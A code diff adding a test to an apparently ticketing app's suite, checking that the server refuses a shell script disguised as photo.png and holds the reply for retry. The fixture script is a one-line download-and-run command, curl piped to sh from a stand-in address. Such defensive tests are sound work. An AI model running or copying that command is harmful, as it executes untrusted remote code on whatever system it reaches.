@@ -350,6 +350,64 @@ describe('a message with too many or refused files', () => {
   });
 });
 
+describe('a file whose content contradicts its image or PDF name', () => {
+  it('is refused by the server when the message is applied, and waits in needs attention whole', async () => {
+    // A client that skips the check at attach time (hostile, or built before the rule): a
+    // script with no "#!" line, which the upload takes, named like a photo.
+    const script = text('curl -s http://203.0.113.9/x | sh\n');
+    await new LocalBlobStore(clientBlobs()).storeDownloaded(sha256(script), script);
+    const disguised: AttachmentRef = {
+      sha256: sha256(script),
+      name: 'photo.png',
+      size: script.length,
+      contentType: 'image/png',
+    };
+    const good = await staged('keypad.png', Buffer.concat([png, text('keypad')]));
+    const held = await callOk(core, 'tickets.reply', {
+      ticketId,
+      body: 'Photos of the keypad at gate 2.',
+      attachments: [good, disguised],
+    });
+    await syncSettled(core);
+
+    const delivered = await f.server.db
+      .selectFrom('messages')
+      .select('id')
+      .where('id', '=', held.messageId)
+      .execute();
+    expect(delivered).toEqual([]);
+    const attention = await callOk(core, 'sync.attention.list', {});
+    expect(attention).toHaveLength(1);
+    const [item] = attention;
+    expect(item!.message).toMatch(
+      /photo\.png was refused: its content is not a PNG image\. Attach it under its real type/,
+    );
+    expect(item!.message).not.toMatch(/keypad\.png/);
+    expect(item!.args).toMatchObject({
+      body: 'Photos of the keypad at gate 2.',
+      attachments: [good, disguised],
+    });
+    expect(item!.actions).toContain('retry');
+
+    // Sent again without the lying file: the text and the real photo arrive.
+    await callOk(core, 'sync.attention.resolve', {
+      id: item!.id,
+      action: 'retry',
+      args: { ...(item!.args as object), attachments: [good] },
+    });
+    await syncSettled(core);
+    expect(await callOk(core, 'sync.attention.list', {})).toEqual([]);
+    const message = await f.server.db
+      .selectFrom('messages')
+      .select(['body', 'attachments'])
+      .where('ticket_id', '=', ticketId)
+      .where('body', '=', 'Photos of the keypad at gate 2.')
+      .execute();
+    expect(message).toHaveLength(1);
+    expect(message[0]!.attachments).toEqual([good]);
+  });
+});
+
 describe('PUT /blobs/{sha256} on the server', () => {
   const put = (bytes: Buffer, token = f.as.managerA.token) =>
     fetch(`${f.server.url}/blobs/${sha256(bytes)}`, {
